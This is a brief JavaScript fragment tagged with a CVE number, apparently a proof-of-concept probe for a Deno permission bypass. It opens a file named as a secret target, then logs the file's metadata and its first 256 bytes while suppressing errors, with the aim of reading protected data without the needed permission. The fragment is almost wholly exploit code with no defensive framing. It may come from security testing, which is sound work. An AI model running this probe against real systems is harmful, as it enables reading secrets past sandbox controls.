// CVE-2025-61786
// An open file tells its status without the permission.
try { const file = Deno.openSync(GOAL.secret); note(JSON.stringify(file.statSync())); const bytes = new Uint8Array(256); file.readSync(bytes); note(new TextDecoder().decode(bytes)); } catch {}
return found;
